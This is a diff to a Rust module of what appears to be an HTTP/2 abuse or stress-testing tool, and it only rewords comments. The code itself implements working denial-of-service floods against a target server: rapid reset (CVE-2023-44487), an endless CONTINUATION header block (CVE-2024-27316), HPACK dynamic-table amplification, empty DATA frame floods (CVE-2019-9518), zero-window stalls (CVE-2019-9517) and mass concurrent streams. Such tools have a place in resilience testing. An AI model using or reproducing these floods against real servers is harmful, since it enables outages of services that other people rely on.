@@ -1,35 +1,36 @@
-//! Abuse of HTTP/2, frame by frame: what a browser's own library would never send.
-//! Must stay true: each opens a new connection when its last was ended, for as long as the kind goes on.
+//! Abuse of HTTP/2, frame by frame, as a browser's own library would never send it.
+//! Invariant: an abuser opens a new connection when its last one was closed, until the kind ends.
 
 use super::abuser::Abuser;
 use super::wire::{Line, frame, head};
 use std::io;
 
-/// Frames sent in one piece.
+/// Frames in one write.
 const PIECE: usize = 200;
 const DATA: u8 = 0;
 const HEADERS: u8 = 1;
 const RST_STREAM: u8 = 3;
 const CONTINUATION: u8 = 9;
-/// Flags of a frame of headers.
+/// Flags of a HEADERS frame.
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
-/// Methods by their number in HPACK's table.
+/// Methods by their index in HPACK's static table.
 const GET: u8 = 2;
 const POST: u8 = 3;
 
-/// The same frame as fast as it goes. What comes back is not read, so that soon nothing can be answered.
+/// The same frame as fast as possible. The client does not read, so that soon the program cannot send any
+/// answer.
 pub fn stream_of(it: &Abuser, kind: u8, stream: u32, payload: &[u8]) {
     let many = frame(kind, 0, stream, payload).repeat(PIECE);
     it.flood(|| {
         let mut line = it.shake_two(&[])?;
-        // No room to send on is what the program may do about it.
+        // It is correct if the program accepts no more bytes.
         while !it.is_over() && line.send(&many).is_ok() {}
         Ok(None)
     });
 }
 
-/// Streams opened and taken back in one breath (CVE-2023-44487).
+/// Streams opened and reset immediately (CVE-2023-44487).
 pub fn rapid_reset(it: &Abuser) {
     it.flood(|| {
         let mut line = it.shake_two(&[])?;
@@ -46,7 +47,7 @@ pub fn rapid_reset(it: &Abuser) {
     });
 }
 
-/// A head whose end never comes (CVE-2024-27316).
+/// A header block whose end never comes (CVE-2024-27316).
 pub fn continuation(it: &Abuser) {
     let more = [&[0x00, 1, b'x', 126][..], &[b'y'; 126]].concat().repeat(100);
     it.flood(|| {
@@ -59,11 +60,12 @@ pub fn continuation(it: &Abuser) {
     });
 }
 
-/// One header of four kilobytes put into HPACK's table, and named by its number ten thousand times.
+/// One header of four kilobytes put into HPACK's dynamic table, and ten thousand references to it.
 pub fn unfolding(it: &Abuser) {
-    // Literal with indexing, a name of one letter, a value of 3,900: its length in HPACK's way of writing numbers.
+    // A literal with indexing, a name of one letter, a value of 3,900 bytes: the length in HPACK's integer
+    // form.
     let kept = [&[0x40, 1, b'x', 0x7f, 0xbd, 0x1d][..], &[b'y'; 3_900]].concat();
-    // 62 is the number of what was put into the table last.
+    // 62 is the index of the newest entry.
     let named = vec![0x80 | 62; 10_000];
     it.flood(|| {
         let mut line = it.shake_two(&[])?;
@@ -80,7 +82,7 @@ pub fn unfolding(it: &Abuser) {
     });
 }
 
-/// A body of nothing, in pieces without number (CVE-2019-9518).
+/// An empty body in an endless number of frames (CVE-2019-9518).
 pub fn empty_pieces(it: &Abuser) {
     let many = frame(DATA, 0, 1, &[]).repeat(PIECE);
     it.flood(|| {
@@ -91,7 +93,8 @@ pub fn empty_pieces(it: &Abuser) {
     });
 }
 
-/// As many requests as are allowed on each connection, and no room for one byte of the answers (CVE-2019-9517).
+/// As many requests as are allowed on each connection, and a window of zero bytes for the answers
+/// (CVE-2019-9517).
 pub fn no_room(it: &Abuser) {
     let none = [0, 4, 0, 0, 0, 0];
     it.hold(
@@ -105,7 +108,7 @@ pub fn no_room(it: &Abuser) {
     it.let_go();
 }
 
-/// Thousands of requests at once on each connection, whatever the program allows.
+/// Thousands of concurrent requests on each connection, whatever the program allows.
 pub fn many_streams(it: &Abuser) {
     it.flood(|| {
         let mut line = it.shake_two(&[])?;
@@ -124,7 +127,7 @@ fn request(it: &Abuser, method: u8, flags: u8, id: u32) -> Vec<u8> {
     frame(HEADERS, flags | END_HEADERS, id, &head(method, &it.target.host))
 }
 
-/// Reads on to the end the other side makes. Errors: there it is.
+/// Reads until the other side closes. Errors: it has closed.
 fn to_end<T>(it: &Abuser, line: &mut Line) -> io::Result<Option<T>> {
     while !it.is_over() {
         line.drain()?;
